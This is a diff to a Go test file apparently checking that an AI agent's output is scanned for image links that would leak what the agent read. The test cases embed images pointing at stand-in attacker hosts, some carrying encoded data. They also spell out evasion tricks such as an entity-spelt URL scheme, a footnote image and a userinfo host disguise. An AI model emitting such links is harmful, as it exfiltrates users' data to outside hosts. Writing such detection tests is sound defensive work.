@@ -46,6 +46,8 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 		{"reStructuredText", contained, nil, map[string]string{"docs/index.rst": ".. image:: " + leak + "\n"}, "docs/index.rst (an image from drop.attacker.example)"},
 		{"AsciiDoc imagesdir", contained, nil, map[string]string{"guide.adoc": ":imagesdir: https://imgs.attacker.example/k=c2VjcmV0\n\nimage::a.png[]\n"}, "guide.adoc (an image from imgs.attacker.example)"},
 		{"a notebook's Markdown cell", contained, nil, map[string]string{"analysis.ipynb": `{"cells": [{"cell_type": "markdown", "source": ["![p](` + leak + `)"]}], "nbformat": 4}`}, "analysis.ipynb (an image from drop.attacker.example)"},
+		{"an entity-spelt scheme", contained, nil, map[string]string{"e.md": "![ok](https&#58;//drop.attacker.example/p?d=1)\n"}, "e.md (an image from drop.attacker.example)"},
+		{"an image in a footnote", contained, nil, map[string]string{"f.md": "Note[^1].\n\n[^1]: ![ok](" + leak + ")\n"}, "f.md (an image from drop.attacker.example)"},
 		{"github.com behind a user name", contained, nil, map[string]string{"x.md": "![x](https://github.com@drop.attacker.example/p)\n"}, "x.md (an image from drop.attacker.example)"},
 		{"a Pages site is its owner's", contained, nil, map[string]string{"x.md": "![x](https://attacker.github.io/p?d=1)\n"}, "x.md (an image from attacker.github.io)"},
 		{"an allowed host", contained, nil, map[string]string{"README.md": "![ci](https://img.shields.io/badge/x-y-green)\n"}, ""},
